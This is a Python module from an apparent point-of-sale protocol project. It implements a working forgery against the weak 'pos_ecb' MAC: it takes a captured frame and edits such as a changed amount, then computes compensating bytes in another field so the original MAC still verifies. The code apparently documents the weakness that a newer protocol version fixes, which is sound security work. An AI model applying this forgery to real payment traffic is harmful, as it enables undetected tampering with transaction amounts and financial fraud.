"""Forging the pos_ecb MAC without the key (the attack pos-link-v1.1 answers): pos_ecb XORs all
8-byte blocks of the MAC input before any cipher, so changing bytes leaves the MAC as it was
when other bytes at the same offsets modulo 8 change by the same XOR. Given a captured frame and
the edits an attacker wants (amount, STAN, batch, ...), `forge` makes one variant per other field
that can carry the compensating bytes and still decode. A pure module: frames in, frames out."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass

from steadypos.protocol.codec import Message, decode_body, encode_body, field_spans
from steadypos.protocol.errors import ProtocolError
from steadypos.protocol.frame import Frame
from steadypos.protocol.spec import BY_NUMBER

BLOCK = 8
MAC_FIELD = 64
NO_CARRIER = 0  # Forgery.carrier when the edits cancel out and need no compensation


@dataclass(frozen=True)
class Forgery:
    """A frame that differs from the captured one by `edits` and by compensating bytes in
    field `carrier` (NO_CARRIER: none needed), with the captured F64 unchanged."""

    edits: tuple[tuple[int, str], ...]
    carrier: int
    carrier_value: str  # what the carrier field decodes to now
    frame: bytes


def fold(data: bytes) -> bytes:
    """The XOR of the zero-padded 8-byte blocks: all that pos_ecb enciphers."""
    padded = data + bytes(-len(data) % BLOCK)
    acc = bytearray(BLOCK)
    for i in range(0, len(padded), BLOCK):
        for j in range(BLOCK):
            acc[j] ^= padded[i + j]
    return bytes(acc)


def _byte_fits(content: str, byte: int) -> bool:
    """Whether a byte can stand in a field of this content class and still decode."""
    if content == "n":
        return byte >> 4 <= 9 and byte & 0xF <= 9
    if content == "z":
        return all(nib <= 9 or nib == 0xD for nib in (byte >> 4, byte & 0xF))
    if content == "ans":
        return 0x20 <= byte <= 0x7E
    return True  # b: any byte


def _split(out: bytearray, spots: list[int], content: str, d: int) -> bool:
    """Change one byte of `spots` by d, or two by parts whose XOR is d, keeping each byte
    valid for the field; False when no such change exists."""
    for p in spots:
        if _byte_fits(content, out[p] ^ d):
            out[p] ^= d
            return True
    for i, p in enumerate(spots):
        for q in spots[i + 1:]:
            x = next((x for x in range(1, 256) if _byte_fits(content, out[p] ^ x)
                      and _byte_fits(content, out[q] ^ d ^ x)), None)
            if x is not None:
                out[p] ^= x
                out[q] ^= d ^ x
                return True
    return False


def _compensate(body: bytes, span: tuple[int, int], content: str, delta: bytes) -> bytes | None:
    """The body with bytes of one field changed so that its fold changes by `delta`; None
    when the field is too short or its content class cannot take the change."""
    out = bytearray(body)
    start, end = span
    for offset, d in enumerate(delta):
        spots = [p for p in range(start, end) if p % BLOCK == offset]
        if d and not _split(out, spots, content, d):
            return None
    return bytes(out)


def edited_body(msg: Message, edits: Mapping[int, str]) -> bytes:
    """The captured message's body with the edits applied and the same F64; the edits must
    keep every field's encoded length (a forgery keeps the blocks where they were)."""
    changed = msg.copy()
    changed.fields.update(edits)
    changed.wire = None
    body = encode_body(changed)
    if len(body) != len(encode_body(msg)):
        raise ValueError("an edit changes the frame's length: the blocks would shift")
    return body


def forge(frame: bytes, edits: Mapping[int, str]) -> list[Forgery]:
    """Every variant of `frame` with `edits` whose pos_ecb MAC is the captured one: one per
    other field that can carry the compensation (none when the edits already cancel out)."""
    captured = Frame.from_bytes(frame)
    msg = decode_body(captured.body)
    if MAC_FIELD not in msg.fields or any(n == MAC_FIELD or n not in BY_NUMBER for n in edits):
        raise ValueError("a forgery edits data fields of a MAC'd frame")
    body = edited_body(msg, edits)
    delta = bytes(a ^ b for a, b in zip(fold(captured.body[:-8]), fold(body[:-8]), strict=True))
    edits_key = tuple(sorted(edits.items()))
    if not any(delta):  # the edits cancel out by themselves
        return [Forgery(edits_key, NO_CARRIER, "", Frame(captured.tpdu, captured.header,
                                                         body).to_bytes())]
    out: list[Forgery] = []
    for carrier, span in sorted(field_spans(body).items()):
        if carrier in edits or carrier == MAC_FIELD:
            continue
        forged = _compensate(body, span, BY_NUMBER[carrier].content, delta)
        if forged is None:
            continue
        try:
            got = decode_body(forged)
        except ProtocolError:
            continue  # the compensation broke the field's framing (a length, a pad nibble)
        expected = {**msg.fields, **edits}
        if {n: v for n, v in got.fields.items() if n != carrier} != \
                {n: v for n, v in expected.items() if n != carrier}:
            continue
        out.append(Forgery(edits_key, carrier, got.fields[carrier],
                           Frame(captured.tpdu, captured.header, forged).to_bytes()))
    return out
